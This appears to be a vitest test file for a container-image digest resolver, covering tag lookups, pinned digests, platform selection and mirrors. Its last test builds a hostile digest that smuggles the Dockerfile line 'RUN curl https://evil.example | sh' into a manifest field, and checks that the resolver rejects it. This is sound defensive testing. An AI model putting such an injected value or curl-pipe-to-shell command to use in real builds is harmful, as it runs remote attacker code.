import { readdirSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import nock from 'nock';
import { describe, expect, it } from 'vitest';
import { parseImageReference, type ImageReference } from '../../src/reference/index.ts';
import { RegistryError, type Platform, type RegistryClient } from '../../src/registry/index.ts';
import { resolveTargetDigest, TargetDigestError } from '../../src/resolve/target-digest.ts';
import {
  fixture,
  fixtureDigest,
  HUB,
  HUB_TOKEN,
  hubAnonymousAuth,
  hubHeaders,
  OCI_INDEX,
  testClient,
  useNock,
} from './helpers.ts';

const files = readdirSync(fileURLToPath(new URL('../fixtures/registry/', import.meta.url))).filter((name) =>
  /\.(index|list|manifest|config)\.json$/.test(name),
);
const nameByDigest = new Map(files.map((name) => [fixtureDigest(name), name.replace(/\.json$/, '')]));
const digest = (name: string) => fixtureDigest(`${name}.json`);
/** A well-formed digest no fixture has: what a registry answers 404 for. */
const goneDigest = `sha256:${'0'.repeat(64)}`;

/** A registry over the fixtures whose tags point at `tags[tag]`; logs every call by fixture name. */
function fakeRegistry(tags: Record<string, string>): { client: RegistryClient; calls: string[] } {
  const calls: string[] = [];
  const stored = (wanted: string) => {
    const name = nameByDigest.get(wanted);
    if (!name) throw new Error(`no fixture has digest ${wanted}`);
    return name;
  };
  const client: RegistryClient = {
    async resolveTag(ref) {
      calls.push(`head ${ref.trackedTag}`);
      const name = tags[ref.trackedTag]!;
      const mediaType = JSON.parse(fixture(`${name}.json`).toString()).mediaType as string;
      return { digest: digest(name), mediaType };
    },
    async describeManifest(_ref, tagOrDigest) {
      if (tagOrDigest === goneDigest) {
        calls.push('head gone');
        throw new RegistryError({
          status: 404,
          code: 'MANIFEST_UNKNOWN',
          retryable: false,
          message: `HEAD ${tagOrDigest}: 404 MANIFEST_UNKNOWN`,
        });
      }
      const name = tags[tagOrDigest] ?? stored(tagOrDigest);
      calls.push(`head ${name}`);
      return { digest: digest(name), mediaType: JSON.parse(fixture(`${name}.json`).toString()).mediaType };
    },
    async fetchManifest(_ref, tagOrDigest) {
      const name = tags[tagOrDigest] ?? stored(tagOrDigest);
      calls.push(`get ${name}`);
      const bytes = new Uint8Array(fixture(`${name}.json`));
      return {
        digest: digest(name),
        mediaType: JSON.parse(fixture(`${name}.json`).toString()).mediaType,
        bytes,
      };
    },
    async fetchBlob(_ref, blobDigest) {
      const name = stored(blobDigest);
      calls.push(`blob ${name}`);
      return new Uint8Array(fixture(`${name}.json`));
    },
    stats: () => ({ ping: 0, token: 0, head: 0, get: 0, mirror: 0, retries: 0, dockerHubPulls: 0 }),
  };
  return { client, calls };
}

const amd64: Platform = { os: 'linux', architecture: 'amd64' };
const arm64v8: Platform = { os: 'linux', architecture: 'arm64', variant: 'v8' };

interface Case {
  readonly label: string;
  readonly written: (digests: typeof digest) => string;
  readonly tags: Record<string, string>;
  readonly platform?: Platform;
  readonly expected: { digest: string; platform?: Platform };
  readonly calls: readonly string[];
}

const cases: Case[] = [
  {
    label: 'unpinned: the index, a HEAD of the tag and one of the digest it names',
    written: () => 'alpine:3.20',
    tags: { '3.20': 'alpine-new.index' },
    expected: { digest: digest('alpine-new.index') },
    calls: ['head 3.20', 'head alpine-new.index'],
  },
  {
    label: 'pinned to the current index: unchanged, one HEAD',
    written: (d) => `alpine:3.20@${d('alpine-new.index')}`,
    tags: { '3.20': 'alpine-new.index' },
    expected: { digest: digest('alpine-new.index') },
    calls: ['head 3.20'],
  },
  {
    label: 'pinned to an older index: the new index',
    written: (d) => `alpine:3.20@${d('alpine-old.index')}`,
    tags: { '3.20': 'alpine-new.index' },
    expected: { digest: digest('alpine-new.index') },
    calls: ['head 3.20', 'head alpine-old.index', 'head alpine-new.index'],
  },
  {
    label: 'pinned to an older linux/amd64 manifest: the same platform of the new index',
    written: (d) => `alpine:3.20@${d('alpine-old-amd64.manifest')}`,
    tags: { '3.20': 'alpine-new.index' },
    expected: { digest: digest('alpine-new-amd64.manifest'), platform: amd64 },
    calls: [
      'head 3.20',
      'head alpine-old-amd64.manifest',
      'get alpine-old-amd64.manifest',
      'get alpine-new.index',
      'blob alpine-old-amd64.config',
    ],
  },
  {
    label: 'pinned to an older linux/arm64/v8 manifest: the new arm64 child',
    written: (d) => `alpine:3.20@${d('alpine-old-arm64.manifest')}`,
    tags: { '3.20': 'alpine-new.index' },
    expected: { digest: digest('alpine-new-arm64.manifest'), platform: arm64v8 },
    calls: [
      'head 3.20',
      'head alpine-old-arm64.manifest',
      'get alpine-old-arm64.manifest',
      'get alpine-new.index',
      'blob alpine-old-arm64.config',
    ],
  },
  {
    label: 'pinned to a child still in the index: unchanged, no config read',
    written: (d) => `alpine:3.20@${d('alpine-new-armv7.manifest')}`,
    tags: { '3.20': 'alpine-new.index' },
    expected: {
      digest: digest('alpine-new-armv7.manifest'),
      platform: { ...arm64v8, architecture: 'arm', variant: 'v7' },
    },
    calls: [
      'head 3.20',
      'head alpine-new-armv7.manifest',
      'get alpine-new-armv7.manifest',
      'get alpine-new.index',
    ],
  },
  {
    label: 'pinned single-platform, the tag is now a single manifest: that manifest',
    written: (d) => `alpine:3.20@${d('alpine-old-amd64.manifest')}`,
    tags: { '3.20': 'alpine-new-amd64.manifest' },
    expected: { digest: digest('alpine-new-amd64.manifest'), platform: amd64 },
    calls: [
      'head 3.20',
      'head alpine-old-amd64.manifest',
      'get alpine-old-amd64.manifest',
      'blob alpine-old-amd64.config',
      'get alpine-new-amd64.manifest',
      'blob alpine-new-amd64.config',
    ],
  },
  {
    label: 'pinned to a digest the registry no longer has (garbage-collected): the tag’s index',
    written: () => `alpine:3.20@${goneDigest}`,
    tags: { '3.20': 'alpine-new.index' },
    expected: { digest: digest('alpine-new.index') },
    calls: ['head 3.20', 'head gone', 'head alpine-new.index'],
  },
  {
    label: '--platform linux/arm64 (default variant v8): the arm64 child',
    written: () => 'alpine:3.20',
    tags: { '3.20': 'alpine-new.index' },
    platform: { os: 'linux', architecture: 'arm64' },
    expected: { digest: digest('alpine-new-arm64.manifest'), platform: arm64v8 },
    calls: ['head 3.20', 'get alpine-new.index'],
  },
  {
    label: '--platform on a Docker manifest list',
    written: (d) => `node:22@${d('node.list')}`,
    tags: { '22': 'node.list' },
    platform: amd64,
    expected: { digest: digest('node-amd64.manifest'), platform: amd64 },
    calls: ['head 22', 'get node.list'],
  },
  {
    label: '--platform on a single-platform tag of that platform',
    written: () => 'alpine:3.20',
    tags: { '3.20': 'alpine-new-amd64.manifest' },
    platform: amd64,
    expected: { digest: digest('alpine-new-amd64.manifest'), platform: amd64 },
    calls: ['head 3.20', 'get alpine-new-amd64.manifest', 'blob alpine-new-amd64.config'],
  },
];

describe('resolveTargetDigest: index preferred, single-platform pins stay single-platform', () => {
  it.each(cases)('$label', async ({ written, tags, platform, expected, calls }) => {
    const { client, calls: made } = fakeRegistry(tags);
    const target = await resolveTargetDigest(client, parseImageReference(written(digest)), { platform });
    expect(target.digest).toBe(expected.digest);
    expect(target.platform).toEqual(expected.platform);
    expect(made).toEqual(calls);
  });

  it.each<{
    label: string;
    ref: () => ImageReference;
    tags: Record<string, string>;
    platform: Platform | undefined;
    code: string;
    message: string;
  }>([
    {
      label: '--platform absent from the index names the platforms available',
      ref: () => parseImageReference('alpine:3.20'),
      tags: { '3.20': 'alpine-new.index' },
      platform: { os: 'linux', architecture: 's390x' },
      code: 'PLATFORM_NOT_FOUND',
      message: 'alpine:3.20 has no linux/s390x image (available: linux/amd64, linux/arm64/v8, linux/arm/v7)',
    },
    {
      label: '--platform on a single manifest of another platform',
      ref: () => parseImageReference('alpine:3.20'),
      tags: { '3.20': 'alpine-new-amd64.manifest' },
      platform: arm64v8,
      code: 'PLATFORM_NOT_FOUND',
      message: 'alpine:3.20 has no linux/arm64/v8 image (available: linux/amd64)',
    },
    {
      label: 'a pinned platform the new index dropped',
      ref: () => parseImageReference(`node:22@${digest('alpine-old-armv7.manifest')}`),
      tags: { '22': 'node.list' },
      platform: undefined,
      code: 'PLATFORM_NOT_FOUND',
      message: 'node:22 has no linux/arm/v7 image (available: linux/amd64, linux/arm64/v8)',
    },
    {
      label: 'pinned single-platform, the tag is now a single manifest of another platform',
      ref: () => parseImageReference(`alpine:3.20@${digest('alpine-old-amd64.manifest')}`),
      tags: { '3.20': 'alpine-new-arm64.manifest' },
      platform: undefined,
      code: 'PLATFORM_NOT_FOUND',
      message: 'alpine:3.20 has no linux/amd64 image (available: linux/arm64/v8)',
    },
    {
      label: 'a digest-only reference',
      ref: () => parseImageReference(`alpine@${digest('alpine-new.index')}`),
      tags: {},
      platform: undefined,
      code: 'DIGEST_ONLY',
      message: 'nothing to follow',
    },
  ])('$label', async ({ ref, tags, platform, code, message }) => {
    const { client } = fakeRegistry(tags);
    const error = await resolveTargetDigest(client, ref(), { platform }).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(TargetDigestError);
    expect(error).toMatchObject({ code });
    expect((error as Error).message).toContain(message);
  });
});

describe('resolveTargetDigest over HTTP', () => {
  useNock();

  const index = digest('alpine-new.index');

  it('pins the index Docker Hub serves for the tag: HEADs of the tag and of its digest, no GET', async () => {
    hubAnonymousAuth(['library/alpine']);
    nock(HUB, { reqheaders: { authorization: `Bearer ${HUB_TOKEN}` } })
      .head('/v2/library/alpine/manifests/3.20')
      .reply(200, undefined, hubHeaders(index, OCI_INDEX))
      .head(`/v2/library/alpine/manifests/${index}`)
      .reply(200, undefined, hubHeaders(index, OCI_INDEX));
    const { client } = testClient();
    expect(await resolveTargetDigest(client, parseImageReference('alpine:3.20'))).toEqual({
      digest: index,
      mediaType: OCI_INDEX,
    });
    expect(client.stats()).toEqual({
      ping: 1,
      token: 1,
      head: 2,
      get: 0,
      mirror: 0,
      retries: 0,
      dockerHubPulls: 0,
    });
  });

  it('pinned to an older index: one HEAD of the old digest to learn it is an index (no pull counted)', async () => {
    const old = digest('alpine-old.index');
    hubAnonymousAuth(['library/alpine']);
    nock(HUB, { reqheaders: { authorization: `Bearer ${HUB_TOKEN}` } })
      .head('/v2/library/alpine/manifests/3.20')
      .reply(200, undefined, hubHeaders(index, OCI_INDEX))
      .head(`/v2/library/alpine/manifests/${old}`)
      .reply(200, undefined, hubHeaders(old, OCI_INDEX))
      .head(`/v2/library/alpine/manifests/${index}`)
      .reply(200, undefined, hubHeaders(index, OCI_INDEX));
    const { client } = testClient();
    const ref: ImageReference = parseImageReference(`alpine:3.20@${old}`);
    expect(await resolveTargetDigest(client, ref)).toEqual({ digest: index, mediaType: OCI_INDEX });
    expect(client.stats()).toMatchObject({ head: 3, get: 0, dockerHubPulls: 0 });
  });

  it('never pins a digest the tag HEAD names but the registry does not serve by digest', async () => {
    const lie = `sha256:${'1'.repeat(64)}`;
    hubAnonymousAuth(['library/alpine']);
    nock(HUB)
      .head('/v2/library/alpine/manifests/3.20')
      .reply(200, undefined, hubHeaders(lie, OCI_INDEX))
      .head(`/v2/library/alpine/manifests/${lie}`)
      .reply(404);
    const { client } = testClient();
    const error = await resolveTargetDigest(client, parseImageReference('alpine:3.20')).catch(
      (e: unknown) => e,
    );
    expect(error).toMatchObject({ code: 'UNCONFIRMED_DIGEST' });
    expect((error as Error).message).toContain(lie);
  });

  it('needs no confirming HEAD when the digest came from hashed bytes, and says when a mirror stood in', async () => {
    const bytes = fixture('alpine-new.index.json');
    nock(HUB)
      .get('/v2/')
      .replyWithError(Object.assign(new Error('connect ECONNREFUSED'), { code: 'ECONNREFUSED' }));
    nock('https://mirror.example')
      .get('/v2/')
      .reply(200, {})
      .head('/v2/library/alpine/manifests/3.20')
      .reply(200, undefined, { 'content-type': OCI_INDEX })
      .get('/v2/library/alpine/manifests/3.20')
      .reply(200, bytes, { 'content-type': OCI_INDEX });
    const { client } = testClient({
      mirrors: {
        'docker.io': [
          { host: 'mirror.example', url: 'https://mirror.example', plainHttp: false, prefix: '' },
        ],
      },
    });
    expect(await resolveTargetDigest(client, parseImageReference('alpine:3.20'))).toEqual({
      digest: index,
      mediaType: OCI_INDEX,
      fromMirror: 'mirror.example',
    });
  });
});

describe('registry-controlled digests', () => {
  it('refuses an index whose child digest is not a digest, so no such text reaches a Dockerfile', async () => {
    const evil = 'sha256:' + 'a'.repeat(64) + '\nRUN curl https://evil.example | sh';
    const bytes = new TextEncoder().encode(
      JSON.stringify({
        schemaVersion: 2,
        mediaType: OCI_INDEX,
        manifests: [
          {
            mediaType: 'application/vnd.oci.image.manifest.v1+json',
            digest: evil,
            size: 1,
            platform: { os: 'linux', architecture: 'amd64' },
          },
        ],
      }),
    );
    const head = { digest: 'sha256:' + 'b'.repeat(64), mediaType: OCI_INDEX };
    const client: RegistryClient = {
      resolveTag: async () => head,
      describeManifest: async () => head,
      fetchManifest: async () => ({ ...head, bytes }),
      fetchBlob: async () => new Uint8Array(),
      stats: () => ({ ping: 0, token: 0, head: 0, get: 0, mirror: 0, retries: 0, dockerHubPulls: 0 }),
    };
    const error = await resolveTargetDigest(client, parseImageReference('alpine:3.20'), {
      platform: amd64,
    }).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(TargetDigestError);
    expect(error).toMatchObject({ code: 'BAD_MANIFEST' });
    expect((error as Error).message).not.toContain('evil');
  });
});
